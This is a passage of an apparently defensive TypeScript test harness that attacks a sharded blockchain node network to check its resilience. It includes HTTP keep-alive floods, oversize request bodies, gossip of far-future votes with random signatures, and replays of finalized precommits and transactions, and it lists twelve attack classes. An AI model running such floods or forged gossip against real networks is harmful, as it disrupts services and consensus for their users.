      oversizeBodies(base, { requests: 3, bodyBytes: 32 * 1024 * 1024, declare: false, timeoutMs: oversizeMs }),
    ]);
    const flood = await keepAliveFlood(base, {
      clients: 500,
      durationMs: timeLeft(env),
      maxRequests: 200_000,
      paths: [{ method: 'GET', path: '/v1/status' }, { method: 'POST', path: '/v1/txs' }, { method: 'GET', path: '/metrics' }],
      signal: env.signal,
    });
    const big = [declared, chunked];
    const all413 = big.every((b) => (b.answers['413'] ?? 0) === b.requests);
    const closedEarly = big.reduce((a, b) => a + b.closedEarly, 0);
    return {
      attackerIds: [],
      // The flood is what must be cut off (throttled or dropped); the oversize bodies have their own check.
      cutOff: flood.cutOff,
      counts: { requests: flood.requests, p50Ms: flood.p50Ms, p99Ms: flood.p99Ms, ...prefixed('http', flood.answers), oversize413: big.reduce((a, b) => a + (b.answers['413'] ?? 0), 0), oversizeClosedEarly: closedEarly, oversizeMeanKiBSent: Math.round((declared.meanBytesWritten + chunked.meanBytesWritten) / 2048) },
      checks: [
        {
          name: 'oversize bodies are refused with 413 and the connection closed without reading them',
          ok: all413 && closedEarly === declared.requests + chunked.requests,
          detail: `declared: ${JSON.stringify(declared.answers)}, closed early ${declared.closedEarly}/${declared.requests} (mean ${Math.round(declared.meanBytesWritten / 1024)} KiB of 32 MiB sent); chunked: ${JSON.stringify(chunked.answers)}, closed early ${chunked.closedEarly}/${chunked.requests} (mean ${Math.round(chunked.meanBytesWritten / 1024)} KiB sent)`,
        },
      ],
    };
  },
};

// ---------------------------------------------------------------- far-future votes (item 9)

export const farFutureVotes: AttackClass = {
  name: 'far-future-votes',
  summary: 'every validator gets votes of members for height head + 10^9 with garbage signature bytes, 200 every 500 ms',
  victim: (t) => validators(t)[0]!,
  async run(env) {
    const t = env.target;
    const topic = shardProtocols(t.chainId, t.shard).vote;
    const members = await committee(env.victim);
    const sigLen = getBackend(t.scheme).lengths.signature;
    const peers: AttackerPeer[] = [];
    const counts: Record<string, number | string> = {};
    const writers = new Map<string, RpcWriter | null>();
    try {
      env.ready();
      for (let k = 0; !over(env) && k < 100; k++) {
        await Promise.all(validators(t).map(async (n) => {
          let w = writers.get(n.name);
          if (!w || !w.open) {
            if (peers.length >= 24) return;
            w = (await gossipTo(n, peers, env))?.w ?? null;
            writers.set(n.name, w);
            if (!w) return;
          }
          const head = await headOf(n);
          if (!head) return;
          const messages = Array.from({ length: 200 }, (_, i) => {
            const m = members[i % members.length]!;
            const body: VoteBody = { chainId: t.chainId, shard: t.shard, height: head.height + 1_000_000_000, round: head.round, step: 'prevote', blockHash: new Uint8Array(randomBytes(32)), validator: parseAddress(m.address) };
            return { topic, data: encodeVoteGossip({ body, signature: new Uint8Array(randomBytes(sigLen)) }) };
          });
          if (await w.send({ messages })) bump(counts, 'votes', messages.length);
        }));
        await sleep(Math.min(500, timeLeft(env)));
      }
      await sleep(timeLeft(env));
      // networkHeight may lead the finalized head by what consensus legitimately knows (a few heights), never by 10^9.
      const after = await Promise.all(shardNodes(t).map(async (n) => ({ n, s: await status(n) })));
      const finalized = Math.max(...after.map((x) => x.s?.finalizedHeight ?? 0));
      const moved = after.filter((x) => x.s && x.s.networkHeight > finalized + 10);
      return {
        attackerIds: peers.map((p) => p.id),
        cutOff: attackerCutOff(peers),
        counts: { ...counts, identities: peers.length },
        checks: [{ name: 'networkHeight does not follow unverified far-future votes', ok: moved.length === 0, detail: moved.length ? moved.map((x) => `${x.n.name}: ${x.s!.networkHeight} (finalized ${finalized})`).join(', ') : `all ≤ finalized ${finalized} + 10` }],
      };
    } finally {
      await stopPeers(peers);
    }
  },
};

// ---------------------------------------------------------------- replays (item 9)

interface ReplayState {
  /** Final transactions as they went over the wire (anyone can read them back from /v1/txs/{id}). */
  recorded: Uint8Array[];
}

export const replays: AttackClass<ReplayState> = {
  name: 'replay',
  summary: 'final precommits re-sent with new re-send counters and final txs re-packed into new batches, every 100 ms',
  victim: (t) => validators(t)[1] ?? validators(t)[0]!,
  async prepare(t, victim) {
    const acct = t.accounts[1] ?? t.accounts[0]!;
    const c = new QnexusClient(victim.apiUrl, { timeoutMs: 10_000 });
    const nonce = BigInt((await c.account(acct.address)).pendingNonce);
    const txs = Array.from({ length: 6 }, (_, i) => buildTransfer({ key: acct.key, chainId: t.chainId, to: formatAddressOf(generateKeyPair(t.scheme).publicKey), amount: 1n, fee: 1n, nonce: nonce + BigInt(i) }));
    for (const tx of txs) await c.submitTx(tx.raw);
    await Promise.all(txs.map((tx) => c.waitForTx(tx.hash, { until: 'final', timeoutMs: 60_000 })));
    return { recorded: txs.map((x) => x.raw) };
  },
  async run(env, st) {
    const t = env.target;
    const p = shardProtocols(t.chainId, t.shard);
    const peers: AttackerPeer[] = [];
    const counts: Record<string, number | string> = {};
    let resend = 1;
    let votes: SignedVote[] = [];
    let votesAt = 0;
    try {
      let g = await gossipTo(env.victim, peers, env);
      env.ready();
      for (let k = 0; !over(env) && k < 200; k++) {
        if (!g || !g.w.open) {
          if (peers.length >= 6) break;
          g = await gossipTo(env.victim, peers, env);
          if (!g) continue;
        }
        if (Date.now() - votesAt > 2000) {
          // The precommits of the newest final block: real, verified once already by every node.
          const b = await latestBlock(t).catch(() => null);
          if (b?.certificate) {
            const cert = b.certificate;
            votes = cert.votes.map((v) => ({
              body: { chainId: t.chainId, shard: t.shard, height: b.height, round: cert.round, step: 'precommit' as const, blockHash: fromHex(cert.blockHash), validator: parseAddress(v.validator) },
              signature: fromHex(v.signature),
            }));
            votesAt = Date.now();
          }
        }
        const messages = [];
        for (let i = 0; i < 20 && votes.length; i++) messages.push({ topic: p.vote, data: encodeVoteGossip(votes[i % votes.length]!, resend++) });
        for (let i = 0; i < 5; i++) {
          const pick = [...st.recorded].sort(() => Math.random() - 0.5).slice(0, 1 + Math.floor(Math.random() * st.recorded.length));
          messages.push({ topic: p.tx, data: encodeTxBatch(pick) });
        }
        if (await g.w.send({ messages })) {
          bump(counts, 'voteReplays', Math.min(20, votes.length ? 20 : 0));
          bump(counts, 'txBatchReplays', 5);
        } else g = null;
        await sleep(Math.min(100, timeLeft(env)));
      }
      await sleep(timeLeft(env));
      return { attackerIds: peers.map((x) => x.id), cutOff: attackerCutOff(peers), counts: { ...counts, identities: peers.length }, checks: [] };
    } finally {
      await stopPeers(peers);
    }
  },
};

/**
 * Every class, in the order the test and the benchmark run them. On the unfixed code some leave
 * lasting damage (memory never returned, a beacon ban of every shard node): those run last, each
 * on a node no later class measures, so one class's damage does not show up as another's.
 */
export const ATTACKS: AttackClass<unknown>[] = [
  packedVotes,
  farFutureVotes,
  replays,
  verifyOncePoisoning,
  rangeAmplification,
  httpSlowloris,
  httpFlood,
  stallingSync,
  sybils,
  subscriptionFlood,
  lyingSync,
  evidenceRelay,
];

export function attackByName(name: string): AttackClass<unknown> {
  const a = ATTACKS.find((x) => x.name === name);
  if (!a) throw new Error(`unknown attack class ${name}; known: ${ATTACKS.map((x) => x.name).join(', ')}`);
  return a;
}

